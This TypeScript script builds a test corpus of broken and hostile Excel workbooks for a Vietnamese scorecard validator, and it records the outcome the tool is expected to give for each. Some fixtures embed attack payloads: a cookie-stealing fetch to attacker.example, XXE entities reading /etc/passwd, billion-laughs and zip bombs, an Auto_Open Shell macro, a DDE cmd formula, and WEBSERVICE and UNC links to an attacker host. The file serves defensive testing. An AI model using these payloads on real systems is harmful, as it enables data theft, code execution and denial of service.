/**
 * The bad-input corpus: workbooks as they really arrive from hundreds of offices (old formats,
 * edited by hand, half-filled, corrupted, occasionally malicious), each with the outcome the tool
 * must give. Writes test/fixtures/bad/*.x* and test/fixtures/bad/expected.json; test/hostile runs
 * every file through the engine and the command line.
 *
 *   npx tsx scripts/make-bad-corpus.ts [--out <dir>]
 *
 * Deterministic: the same sources give the same bytes (fixed dates, zlib level 9, seeded scores).
 * The expected outcomes below are written by hand from the PAR rules (README.md, "Đầu vào lỗi / Bad input"), not
 * recorded from a run of the engine.
 */
import { promises as fsp } from 'fs';
import * as path from 'path';
import ExcelJS from 'exceljs';
import { a1, columnLetter } from '../src/core/a1';
import { STATE_SHEET_NAME } from '../src/core/state';
import {
  buildConsolidated,
  consolidatedLayout,
  newWorkbook,
  stableBytes,
  type ConsolidatedLayout,
  type ConsolidatedOptions,
} from '../src/samples/builders';
import { UNITS_2025 } from '../src/samples/catalog';
import { criteriaSet, type CriteriaSet } from '../src/samples/criteria';
import { seedFrom } from '../src/samples/prng';
import { generateScores, milliToNumber, QUARTER, type UnitScores } from '../src/samples/scores';
import { buildCfb, deflateRepeated, readZip, writeZip, type ZipWriteEntry } from './bad-corpus/zip-kit';

// ---------------------------------------------------------------------------------------------
// What expected.json records

export type ReadErrorReason = 'not-a-workbook' | 'encrypted' | 'legacy-xls' | 'truncated' | 'too-large' | 'unreadable';

export interface ExpectedFinding {
  code: string;
  sheet: string;
  cell: string;
  severity?: 'error' | 'warning' | 'info';
}

export interface ExpectedTable {
  sheet: string;
  layout: 'scorecard' | 'consolidated' | 'summary';
  range?: string;
  criteria?: number;
  units?: string[];
  year?: number | null;
}

export interface CorpusExpectation {
  file: string;
  what: { vi: string; en: string };
  /** The read error the .xlsx host raises (the CLI exits 2 with its message). */
  readError?: ReadErrorReason;
  engine?: {
    tables: ExpectedTable[];
    /** Findings that must be reported. Every error-level finding of the analysis must be listed here. */
    findings: ExpectedFinding[];
    /** Codes that must not be reported at all. */
    absentCodes?: string[];
    /** Exact totals per unit ("86.750"), for the first table. */
    totals?: Record<string, string>;
  };
  cli: {
    /** Exit code of `par-scorecard validate <file> --json`. */
    validate: 0 | 1 | 2;
    /** What `compute <file> --out new.xlsx` does: writes the output, or refuses (exit 2, no output). */
    computeOut?: 'written' | 'refused';
  };
  /** No stack trace ever reaches stderr (checked for every entry, in-process and through bin/). */
  stackTrace: false;
  note?: string;
}

export interface CorpusFile {
  file: string;
  data: Uint8Array;
}

export interface Corpus {
  files: CorpusFile[];
  expected: { generator: string; note: { vi: string; en: string }; entries: CorpusExpectation[] };
}

// ---------------------------------------------------------------------------------------------
// Shared material: the commune criteria set and five units of the 2025 samples.

const criteria: CriteriaSet = criteriaSet();
const UNITS = UNITS_2025.slice(0, 5);
const SCORES: UnitScores[] = generateScores(criteria, UNITS, { seed: seedFrom('bad-corpus-2025') });
const SHEET = 'Tổng hợp';
const enc = (s: string) => new Uint8Array(Buffer.from(s, 'utf8'));
const dec = (b: Uint8Array) => Buffer.from(b).toString('utf8');

function baseOptions(extra: Partial<ConsolidatedOptions> = {}): ConsolidatedOptions {
  return { year: 2025, units: UNITS, criteria, scores: SCORES, codeStyle: 'dotted', parentsAs: 'formula', rankRow: true, ...extra };
}

const L: ConsolidatedLayout = consolidatedLayout(criteria, UNITS.length, { rankRow: true });
/** A1 of a criterion's score for unit i (0-based) in the base layout. */
const scoreCell = (key: string, unit: number, layout: ConsolidatedLayout = L) => a1(layout.rows.get(key)!, layout.firstUnitCol + unit);
const codeCell = (key: string, layout: ConsolidatedLayout = L) => a1(layout.rows.get(key)!, layout.codeCol);
const unitLetter = (unit: number) => columnLetter(L.firstUnitCol + unit);
const BASE_RANGE = `A${L.headerRow}:${unitLetter(UNITS.length - 1)}${L.rankRow}`;

function totalsOf(scores: UnitScores[], names: string[] = UNITS): Record<string, string> {
  const out: Record<string, string> = {};
  scores.forEach((s, i) => {
    const milli = criteria.leaves.reduce((sum, leaf) => sum + (s.leaves[leaf.key] ?? 0), 0);
    out[names[i]] = (milli / 1000).toFixed(3);
  });
  return out;
}

const CLEAN_TABLE: ExpectedTable = {
  sheet: SHEET,
  layout: 'consolidated',
  range: BASE_RANGE,
  criteria: criteria.nodes.length,
  units: UNITS,
  year: 2025,
};

// ---------------------------------------------------------------------------------------------
// Zip-level editing of a built workbook.

type PartEdit = (entries: { name: string; data: Uint8Array }[]) => ZipWriteEntry[];

async function xlsx(wb: ExcelJS.Workbook, edit?: PartEdit): Promise<Uint8Array> {
  const bytes = await stableBytes(wb);
  if (!edit) return bytes;
  return writeZip(edit(readZip(bytes)));
}

function replaceIn(entries: { name: string; data: Uint8Array }[], name: string, fn: (xml: string) => string) {
  const e = entries.find((x) => x.name === name);
  if (!e) throw new Error(`no part ${name}`);
  const next = fn(dec(e.data));
  if (next === dec(e.data)) throw new Error(`edit of ${name} changed nothing`);
  e.data = enc(next);
}

// ---------------------------------------------------------------------------------------------
// Entries

interface Entry {
  expected: CorpusExpectation;
  build: () => Promise<Uint8Array>;
}

const entries: Entry[] = [];
const add = (expected: Omit<CorpusExpectation, 'stackTrace'>, build: () => Promise<Uint8Array>) =>
  entries.push({ expected: { ...expected, stackTrace: false }, build });

// --- Files the tool cannot read: exit 2, one clear line -------------------------------------

add(
  {
    file: 'empty-file.xlsx',
    what: { vi: 'Tệp rỗng (0 byte), ví dụ tải xuống bị lỗi.', en: 'A zero-byte file (a failed download).' },
    readError: 'not-a-workbook',
    cli: { validate: 2, computeOut: 'refused' },
  },
  async () => new Uint8Array(0),
);

add(
  {
    file: 'not-a-zip.xlsx',
    what: { vi: 'Tệp CSV đổi đuôi thành .xlsx.', en: 'A CSV file renamed to .xlsx.' },
    readError: 'not-a-workbook',
    cli: { validate: 2, computeOut: 'refused' },
  },
  async () => enc('STT,Đơn vị,Tổng điểm,Xếp hạng\r\n1,Phường An Lạc,"91,25",1\r\n2,Xã Hòa Bình,"86,75",2\r\n'),
);

add(
  {
    file: 'html-as-xls.xls',
    what: {
      vi: 'Trang HTML có đuôi .xls (chức năng "Xuất Excel" của nhiều phần mềm quản lý).',
      en: 'An HTML page saved as .xls (the "Export to Excel" of many management systems).',
    },
    readError: 'not-a-workbook',
    cli: { validate: 2, computeOut: 'refused' },
  },
  async () =>
    enc(
      '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head><body>' +
        '<table><tr><td>STT</td><td>Tiêu chí</td><td>Điểm tối đa</td></tr><tr><td>1</td><td>Công tác chỉ đạo</td><td>10</td></tr></table>' +
        '<script>fetch("https://attacker.example/?c="+document.cookie)</script></body></html>',
    ),
);

add(
  {
    file: 'ods-renamed.xlsx',
    what: { vi: 'Bảng tính OpenDocument (.ods) đổi đuôi thành .xlsx.', en: 'An OpenDocument spreadsheet (.ods) renamed to .xlsx.' },
    readError: 'not-a-workbook',
    cli: { validate: 2, computeOut: 'refused' },
  },
  async () =>
    writeZip([
      { name: 'mimetype', data: enc('application/vnd.oasis.opendocument.spreadsheet'), store: true },
      {
        name: 'content.xml',
        data: enc('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'),
      },
      {
        name: 'META-INF/manifest.xml',
        data: enc('<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'),
      },
    ]),
);

add(
  {
    file: 'truncated.xlsx',
    what: { vi: 'Bảng tổng hợp bị cắt cụt (chỉ còn 60% đầu tệp).', en: 'A consolidation cut off after 60% of its bytes.' },
    readError: 'truncated',
    cli: { validate: 2, computeOut: 'refused' },
  },
  async () => {
    const full = await xlsx(buildConsolidated(baseOptions()));
    return full.slice(0, Math.floor(full.length * 0.6));
  },
);

add(
  {
    file: 'encrypted.xlsx',
    what: {
      vi: 'Sổ làm việc đặt mật khẩu mở tệp (tệp CFB với luồng EncryptionInfo và EncryptedPackage).',
      en: 'A password-protected workbook (CFB with EncryptionInfo and EncryptedPackage streams).',
    },
    readError: 'encrypted',
    cli: { validate: 2, computeOut: 'refused' },
  },
  async () => {
    // Agile encryption header (version 4.4, reserved 0x40) and a descriptor; the package is noise.
    const info = Buffer.concat([
      Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]),
      Buffer.from(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">' +
          '<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>' +
          '</encryption>',
        'utf8',
      ),
    ]);
    const pkg = Buffer.alloc(4104);
    pkg.writeUInt32LE(4096, 0);
    let x = seedFrom('encrypted-package');
    for (let i = 8; i < pkg.length; i++) pkg[i] = (x = (Math.imul(x, 1103515245) + 12345) >>> 0) >>> 24;
    return buildCfb([
      { name: 'EncryptionInfo', data: new Uint8Array(info) },
      { name: 'EncryptedPackage', data: new Uint8Array(pkg) },
    ]);
  },
);

/** A minimal BIFF8 workbook globals stream: BOF (workbook globals) … EOF. */
function biff8(): Uint8Array {
  const rec = (type: number, body: number[]) => {
    const b = Buffer.alloc(4 + body.length);
    b.writeUInt16LE(type, 0);
    b.writeUInt16LE(body.length, 2);
    Buffer.from(body).copy(b, 4);
    return b;
  };
  const bof = [0x00, 0x06, 0x05, 0x00, 0x54, 0x1f, 0xcd, 0x07, 0xc1, 0x00, 0x01, 0x00, 0x06, 0x04, 0x00, 0x00];
  return new Uint8Array(Buffer.concat([rec(0x0809, bof), rec(0x0042, [0xb0, 0x04]), rec(0x000a, [])]));
}

add(
  {
    file: 'legacy.xls',
    what: {
      vi: 'Tệp Excel 97–2003 (.xls, BIFF8 trong tệp CFB, luồng "Workbook").',
      en: 'An Excel 97–2003 file (.xls: BIFF8 in a CFB "Workbook" stream).',
    },
    readError: 'legacy-xls',
    cli: { validate: 2, computeOut: 'refused' },
  },
  async () => buildCfb([{ name: 'Workbook', data: biff8() }]),
);

add(
  {
    file: 'cfb-not-excel.xls',
    what: { vi: 'Tệp Word 97–2003 (.doc) đổi đuôi thành .xls.', en: 'A Word 97–2003 document (.doc) renamed to .xls.' },
    readError: 'not-a-workbook',
    cli: { validate: 2, computeOut: 'refused' },
    note: 'Before the corpus, every CFB without an EncryptedPackage stream was called a legacy .xls (fixed in zip.ts).',
  },
  async () =>
    buildCfb([
      { name: 'WordDocument', data: new Uint8Array(Buffer.concat([Buffer.from([0xec, 0xa5, 0xc1, 0x00]), Buffer.alloc(60)])) },
      { name: '1Table', data: new Uint8Array(64) },
    ]),
);

const SHEET_OPEN =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData>';
const SHEET_CLOSE = '</sheetData></worksheet>';

/** A small valid workbook whose sheet1.xml is replaced by the given (deflated) part. */
async function withSheetPart(part: { bytes: Uint8Array; size: number; crc: number }, declaredSize?: number): Promise<Uint8Array> {
  const wb = newWorkbook();
  wb.addWorksheet('Dữ liệu').getCell('A1').value = 'x';
  const bytes = await stableBytes(wb);
  return writeZip(
    readZip(bytes).map((e) =>
      e.name === 'xl/worksheets/sheet1.xml'
        ? { name: e.name, deflated: part, declaredSize }
        : { name: e.name, data: e.data, store: e.name.endsWith('/') },
    ),
  );
}

add(
  {
    file: 'zip-bomb.xlsx',
    what: {
      vi: 'Bom zip: trang tính nén ~200 KB, giải nén ra 210 MB khoảng trắng (kích thước khai báo trung thực).',
      en: 'Zip bomb: a ~200 KB sheet that inflates to 210 MB of spaces (honestly declared size).',
    },
    readError: 'too-large',
    cli: { validate: 2, computeOut: 'refused' },
    note: 'Refused from the central directory before anything is inflated.',
  },
  async () => withSheetPart(await deflateRepeated(SHEET_OPEN, ' '.repeat(1024), 210 * 1024, SHEET_CLOSE)),
);

add(
  {
    file: 'zip-bomb-lying.xlsx',
    what: {
      vi: 'Bom zip khai man: trang tính khai báo 10 KB nhưng giải nén ra 210 MB.',
      en: 'Lying zip bomb: a sheet declared as 10 KB that inflates to 210 MB.',
    },
    readError: 'unreadable',
    cli: { validate: 2, computeOut: 'refused' },
    note: 'The bounded scan stops after 10 KB + one chunk: the file is damaged (its sizes lie). Before the corpus, ExcelJS inflated it whole.',
  },
  async () => withSheetPart(await deflateRepeated(SHEET_OPEN, ' '.repeat(1024), 210 * 1024, SHEET_CLOSE), 10 * 1024),
);

add(
  {
    file: 'million-rows.xlsx',
    what: {
      vi: 'Trang tính 1.048.576 dòng (nén còn vài chục KB, giải nén ~30 MB, dưới giới hạn byte).',
      en: 'A sheet of 1,048,576 rows (tens of KB on disk, ~30 MB inflated, under the byte limits).',
    },
    readError: 'too-large',
    cli: { validate: 2, computeOut: 'refused' },
    note: 'Refused by the row limit (200,000 rows per sheet) during the bounded scan. Before the corpus, ExcelJS parsed every row.',
  },
  async () => withSheetPart(await deflateRepeated(SHEET_OPEN, '<row><c><v>0.25</v></c></row>', 1_048_576, SHEET_CLOSE)),
);

add(
  {
    file: 'wide-rows.xlsx',
    what: {
      vi: '700 dòng, mỗi dòng có một ô ở cột cuối cùng XFD: chỉ 700 ô nhưng lưới 11,5 triệu vị trí.',
      en: '700 rows, each with one cell in the last column XFD: only 700 cells but an 11.5-million-position grid.',
    },
    readError: 'too-large',
    cli: { validate: 2, computeOut: 'refused' },
    note: 'Refused by the grid limit (10,000,000 positions) before the snapshot is built.',
  },
  async () => {
    let rows = '';
    for (let r = 1; r <= 700; r++) rows += `<row r="${r}"><c r="XFD${r}"><v>1</v></c></row>`;
    return withSheetPart(await deflateRepeated(SHEET_OPEN + rows, '', 0, SHEET_CLOSE));
  },
);

add(
  {
    file: 'cell-outside-row.xlsx',
    what: {
      vi: 'Ô mang địa chỉ không thuộc dòng chứa nó (<c r="D8"> trong dòng 10) và hai ô cùng cột trong một dòng, như phần mềm xuất lỗi để lại.',
      en: 'A cell whose reference is not in its row (<c r="D8"> inside row 10) and two cells of one column in a row, as a broken exporter leaves them.',
    },
    readError: 'unreadable',
    cli: { validate: 2, computeOut: 'refused' },
    note: 'Excel repairs such a file when it opens it; re-written as it is, it came out with overlapping merges that no reader accepts.',
  },
  async () =>
    xlsx(buildConsolidated(baseOptions()), (parts) => {
      replaceIn(parts, 'xl/worksheets/sheet1.xml', (xml) => xml.replace('<c r="H10"', '<c r="D8"'));
      return parts.map((e) => ({ ...e, store: e.name.endsWith('/') }));
    }),
);

/** A document type with an external entity and an entity expansion ("billion laughs"). */
add(
  {
    file: 'xml-entities.xlsx',
    what: {
      vi: 'XML có DOCTYPE: thực thể ngoài (đọc /etc/passwd, gọi URL) và thực thể lồng nhau (billion laughs) trong bảng chuỗi.',
      en: 'XML with a DOCTYPE: external entities (/etc/passwd, a URL) and nested entities (billion laughs) in the shared strings.',
    },
    readError: 'unreadable',
    cli: { validate: 2, computeOut: 'refused' },
    note: 'The XML parser (saxes, inside ExcelJS) neither fetches nor expands entities; an undeclared-for-it entity makes the part unreadable.',
  },
  async () => {
    const wb = buildConsolidated(baseOptions());
    return xlsx(wb, (parts) => {
      replaceIn(parts, 'xl/sharedStrings.xml', (xml) =>
        xml
          .replace(
            /^(<\?xml[^>]*\?>)/,
            '$1\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "https://attacker.example/xxe">' +
              '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">' +
              '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>',
          )
          .replace('UBND TỈNH MẪU', 'UBND TỈNH MẪU &xxe;&net;&e;'),
      );
      return parts.map((e) => ({ ...e, store: e.name.endsWith('/') }));
    });
  },
);

// --- Readable workbooks: analysed, findings at the right cells ------------------------------

add(
  {
    file: 'macros.xlsm',
    what: {
      vi: 'Sổ làm việc có macro (.xlsm: phần vbaProject.bin, kiểu nội dung macroEnabled, macro Auto_Open gọi Shell).',
      en: 'A macro-enabled workbook (.xlsm: a vbaProject.bin part, macroEnabled content type, an Auto_Open macro calling Shell).',
    },
    engine: { tables: [CLEAN_TABLE], findings: [], totals: totalsOf(SCORES) },
    cli: { validate: 0, computeOut: 'written' },
    note: 'Values are read; the macro is never run. compute --out writes a macro-free .xlsx (no vbaProject.bin, no macroEnabled content type): name the output .xlsx.',
  },
  async () =>
    xlsx(buildConsolidated(baseOptions()), (parts) => {
      replaceIn(parts, '[Content_Types].xml', (xml) =>
        xml
          .replace(
            'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
            'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
          )
          .replace(
            '<Default Extension="xml"',
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"',
          ),
      );
      replaceIn(parts, 'xl/_rels/workbook.xml.rels', (xml) =>
        xml.replace(
          '</Relationships>',
          '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
        ),
      );
      const vba = buildCfb([
        { name: 'Module1', data: enc('Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n') },
        { name: 'PROJECT', data: enc('ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n') },
      ]);
      return [...parts.map((e) => ({ ...e, store: e.name.endsWith('/') })), { name: 'xl/vbaProject.bin', data: vba }];
    }),
);

add(
  {
    file: 'stray-far-cell.xlsx',
    what: {
      vi: 'Một ký tự gõ nhầm ở ô cuối cùng của trang tính (XFD1048576) bên dưới bảng tổng hợp.',
      en: 'A stray character typed in the very last cell of the sheet (XFD1048576) below the consolidation.',
    },
    engine: { tables: [CLEAN_TABLE], findings: [], totals: totalsOf(SCORES) },
    cli: { validate: 0, computeOut: 'written' },
    note: 'Read and analysed in well under a second. Before the corpus, detection scanned a million rows × 16,384 columns.',
  },
  async () => {
    const wb = buildConsolidated(baseOptions());
    wb.getWorksheet(SHEET)!.getCell('XFD1048576').value = 'x';
    return xlsx(wb);
  },
);

add(
  {
    file: 'merged-score-cells.xlsx',
    what: {
      vi: 'Ô điểm bị gộp: E10:F10 (hai đơn vị chung một ô) và G17:G18 (hai tiêu chí chung một ô).',
      en: 'Merged score cells: E10:F10 (two units share a cell) and G17:G18 (two criteria share a cell).',
    },
    engine: {
      tables: [CLEAN_TABLE],
      findings: [
        // The covered cells read as empty: not scored, and their parents no longer add up.
        { code: 'score/empty', sheet: SHEET, cell: scoreCell('1.1.1', 2), severity: 'warning' },
        { code: 'score/empty', sheet: SHEET, cell: scoreCell('2.2', 3), severity: 'warning' },
        { code: 'sum/parent-mismatch', sheet: SHEET, cell: scoreCell('1.1', 2), severity: 'error' },
        { code: 'sum/parent-mismatch', sheet: SHEET, cell: scoreCell('1', 2), severity: 'error' },
        { code: 'sum/parent-mismatch', sheet: SHEET, cell: a1(L.totalRow, L.firstUnitCol + 2), severity: 'error' },
        { code: 'sum/parent-mismatch', sheet: SHEET, cell: scoreCell('2', 3), severity: 'error' },
        { code: 'sum/parent-mismatch', sheet: SHEET, cell: a1(L.totalRow, L.firstUnitCol + 3), severity: 'error' },
      ],
    },
    cli: { validate: 1, computeOut: 'written' },
    note: 'Only the top-left cell of a merge holds a value (as in Excel): the covered score cells are empty.',
  },
  async () => {
    const wb = buildConsolidated(baseOptions());
    const ws = wb.getWorksheet(SHEET)!;
    ws.mergeCells(`${scoreCell('1.1.1', 1)}:${scoreCell('1.1.1', 2)}`);
    ws.mergeCells(`${scoreCell('2.1', 3)}:${scoreCell('2.2', 3)}`);
    return xlsx(wb);
  },
);

add(
  {
    file: 'hidden-rows-columns.xlsx',
    what: {
      vi: 'Dòng 12–13 (tiêu chí 1.2, 1.3) và cột F (một đơn vị) bị ẩn trong bảng chấm điểm.',
      en: 'Rows 12–13 (criteria 1.2, 1.3) and column F (one unit) hidden inside the scoring table.',
    },
    engine: {
      tables: [CLEAN_TABLE],
      findings: [
        { code: 'detect/hidden-rows', sheet: SHEET, cell: codeCell('1.2'), severity: 'warning' },
        { code: 'detect/hidden-columns', sheet: SHEET, cell: a1(L.headerRow, L.firstUnitCol + 2), severity: 'warning' },
      ],
      totals: totalsOf(SCORES),
    },
    cli: { validate: 0, computeOut: 'written' },
    note: 'Hidden rows and columns still count (as in Excel\u2019s SUM); the warning says they are there.',
  },
  async () => {
    const wb = buildConsolidated(baseOptions());
    const ws = wb.getWorksheet(SHEET)!;
    ws.getRow(L.rows.get('1.2')!).hidden = true;
    ws.getRow(L.rows.get('1.3')!).hidden = true;
    ws.getColumn(L.firstUnitCol + 2).hidden = true;
    return xlsx(wb);
  },
);

const SPACED_CODES: Record<string, string> = {
  '1': '\u00a01.',
  '1.1': '1.1\u00a0',
  '1.1.1': '\u200b1.1.1',
  '1.2': '1\u00a0.\u00a02',
  '2': '2.\u200d\u00a0',
  '3.2.1': '3.2.1\ufeff',
  '4': '\u20604.',
  '5.1': '5.1\u202f',
};

add(
  {
    file: 'nbsp-codes.xlsx',
    what: {
      vi: 'Mã tiêu chí có khoảng trắng không ngắt (NBSP), ký tự độ rộng 0 (ZWSP, ZWJ, BOM) do sao chép từ Word/PDF; tiêu đề cột cũng có NBSP.',
      en: 'Criterion codes with non-breaking and zero-width spaces (NBSP, ZWSP, ZWJ, BOM) pasted from Word/PDF; NBSP in a header too.',
    },
    engine: {
      tables: [CLEAN_TABLE],
      findings: [],
      absentCodes: ['code/orphan', 'code/duplicate', 'code/misplaced'],
      totals: totalsOf(SCORES),
    },
    cli: { validate: 0, computeOut: 'written' },
  },
  async () => {
    const wb = buildConsolidated(baseOptions());
    const ws = wb.getWorksheet(SHEET)!;
    for (const [key, code] of Object.entries(SPACED_CODES)) ws.getCell(codeCell(key)).value = code;
    ws.getCell(L.headerRow, L.maxCol).value = 'Điểm\u00a0tối\u00a0đa';
    return xlsx(wb);
  },
);

const EXTERNAL_UNIT = 1;
add(
  {
    file: 'external-links.xlsx',
    what: {
      vi: 'Điểm của một đơn vị lấy từ sổ làm việc khác ([1]…, đường dẫn UNC \\\\attacker.example và URL), có công thức WEBSERVICE và DDE trong ô ghi chú.',
      en: 'One unit\u2019s scores linked from other workbooks ([1]…, a UNC path \\\\attacker.example and a URL), with WEBSERVICE and DDE formulas in a note cell.',
    },
    engine: { tables: [CLEAN_TABLE], findings: [], totals: totalsOf(SCORES) },
    cli: { validate: 0, computeOut: 'written' },
    note: 'The cached values are used as Excel shows them; the linked files are never opened, no formula is evaluated, nothing is fetched. No finding: a linked value is a value.',
  },
  async () => {
    const wb = buildConsolidated(baseOptions());
    const ws = wb.getWorksheet(SHEET)!;
    for (const leaf of criteria.leaves) {
      const address = scoreCell(leaf.key, EXTERNAL_UNIT);
      const v = ws.getCell(address).value;
      if (typeof v !== 'number') continue;
      ws.getCell(address).value = { formula: `[1]'Tổng hợp'!${address}`, result: v } as ExcelJS.CellFormulaValue;
    }
    const note = L.lastCol + 1;
    ws.getCell(L.rows.get('1.1.1')!, note).value = {
      formula: '_xlfn.WEBSERVICE("https://attacker.example/?q="&A1)',
      result: { error: '#VALUE!' },
    } as ExcelJS.CellFormulaValue;
    ws.getCell(L.rows.get('1.1.2')!, note).value = { formula: "cmd|' /C calc'!A0", result: { error: '#REF!' } } as ExcelJS.CellFormulaValue;
    ws.getCell(L.rows.get('1.2')!, note).value = { formula: '[2]Sheet1!A1', result: 'ngoài' } as ExcelJS.CellFormulaValue;
    return xlsx(wb, (parts) => {
      const link = (n: number, target: string, sheet: string) => [
        {
          name: `xl/externalLinks/externalLink${n}.xml`,
          data: enc(
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
              `<externalBook r:id="rId1"><sheetNames><sheetName val="${sheet}"/></sheetNames><sheetDataSet><sheetData sheetId="0"/></sheetDataSet></externalBook></externalLink>`,
          ),
        },
        {
          name: `xl/externalLinks/_rels/externalLink${n}.xml.rels`,
          data: enc(
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
              `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="${target}" TargetMode="External"/></Relationships>`,
          ),
        },
      ];
      replaceIn(parts, '[Content_Types].xml', (xml) =>
        xml.replace(
          '</Types>',
          '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>' +
            '<Override PartName="/xl/externalLinks/externalLink2.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
        ),
      );
      replaceIn(parts, 'xl/_rels/workbook.xml.rels', (xml) =>
        xml.replace(
          '</Relationships>',
          '<Relationship Id="rId91" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>' +
            '<Relationship Id="rId92" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink2.xml"/></Relationships>',
        ),
      );
      replaceIn(parts, 'xl/workbook.xml', (xml) =>
        xml.replace(
          '</sheets>',
          '</sheets><externalReferences><externalReference r:id="rId91"/><externalReference r:id="rId92"/></externalReferences>',
        ),
      );
      return [
        ...parts.map((e) => ({ ...e, store: e.name.endsWith('/') })),
        ...link(1, 'file:///\\\\attacker.example\\share\\don-vi.xlsx', 'Tổng hợp'),
        ...link(2, 'https://attacker.example/bao-cao.xlsx', 'Sheet1'),
      ];
    });
  },
);

add(
  {
    file: 'cached-mismatch.xlsx',
    what: {
      vi: 'Giá trị lưu sẵn khác công thức: D9 =SUM(D10+D11) lưu 0,25 điểm thừa; E10 =0.5+0.5 lưu 0,75.',
      en: 'Cached values that disagree with their formulas: D9 =SUM(D10+D11) cached 0.25 too high; E10 =0.5+0.5 cached 0.75.',
    },
    engine: {
      tables: [CLEAN_TABLE],
      findings: [
        // D9's own cached value against its children.
        { code: 'sum/parent-mismatch', sheet: SHEET, cell: scoreCell('1.1', 0), severity: 'error' },
        // E10 is counted as Excel shows it (0.75): the cached parents and total above it no longer add up.
        { code: 'sum/parent-mismatch', sheet: SHEET, cell: scoreCell('1.1', 1), severity: 'error' },
        { code: 'sum/parent-mismatch', sheet: SHEET, cell: scoreCell('1', 1), severity: 'error' },
        { code: 'sum/parent-mismatch', sheet: SHEET, cell: a1(L.totalRow, L.firstUnitCol + 1), severity: 'error' },
      ],
      totals: (() => {
        const t = totalsOf(SCORES);
        const e10 = SCORES[1].leaves['1.1.1'];
        t[UNITS[1]] = (Number(t[UNITS[1]]) - milliToNumber(e10) + 0.75).toFixed(3);
        return t;
      })(),
    },
    cli: { validate: 1, computeOut: 'written' },
    note: 'The engine never evaluates formulas: it counts each cell as Excel shows it and reports every parent or total whose shown value is not the sum of its children.',
  },
  async () => {
    const wb = buildConsolidated(baseOptions());
    const ws = wb.getWorksheet(SHEET)!;
    const d9 = ws.getCell(scoreCell('1.1', 0));
    const v = d9.value as ExcelJS.CellFormulaValue;
    d9.value = { formula: v.formula, result: Number(v.result) + 0.25 } as ExcelJS.CellFormulaValue;
    ws.getCell(scoreCell('1.1.1', 1)).value = { formula: '0.5+0.5', result: 0.75 } as ExcelJS.CellFormulaValue;
    return xlsx(wb);
  },
);

add(
  {
    file: 'dates-in-scores.xlsx',
    what: {
      vi: 'Ngày giờ trong ô điểm: "1.5" gõ trong Excel tiếng Việt thành 01/05/2025; một ô ngày giờ; một ô chỉ có giờ.',
      en: 'Dates and times in score cells: "1.5" typed in Vietnamese-locale Excel became 01/05/2025; a date-time; a time of day.',
    },
    engine: {
      tables: [CLEAN_TABLE],
      findings: [
        { code: 'score/date', sheet: SHEET, cell: scoreCell('1.1.2', 0), severity: 'error' },
        { code: 'score/date', sheet: SHEET, cell: scoreCell('1.3', 1), severity: 'error' },
        { code: 'score/date', sheet: SHEET, cell: scoreCell('2.1', 2), severity: 'error' },
      ],
    },
    cli: { validate: 1, computeOut: 'written' },
  },
  async () => {
    const wb = buildConsolidated(baseOptions());
    const ws = wb.getWorksheet(SHEET)!;
    const put = (address: string, date: Date, fmt: string) => {
      const cell = ws.getCell(address);
      cell.value = date;
      // A fresh style object: the builder shares one style between cells.
      cell.style = { ...cell.style, numFmt: fmt };
    };
    put(scoreCell('1.1.2', 0), new Date(Date.UTC(2025, 4, 1)), 'dd/mm/yyyy');
    put(scoreCell('1.3', 1), new Date(Date.UTC(2025, 0, 5, 12, 30)), 'dd/mm/yyyy hh:mm');
    put(scoreCell('2.1', 2), new Date(Date.UTC(1899, 11, 30, 12, 0)), 'hh:mm');
    return xlsx(wb);
  },
);

const LONG = 100_000;
add(
  {
    file: 'long-text.xlsx',
    what: {
      vi: 'Văn bản rất dài: 100.000 ký tự trong ô tiêu đề bảng và trong tên tiêu chí 1.1 (Excel chỉ cho 32.767).',
      en: 'Very long texts: 100,000 characters in the title cell and in criterion 1.1\u2019s title (Excel allows 32,767).',
    },
    engine: { tables: [CLEAN_TABLE], findings: [], totals: totalsOf(SCORES) },
    cli: { validate: 0, computeOut: 'written' },
  },
  async () => {
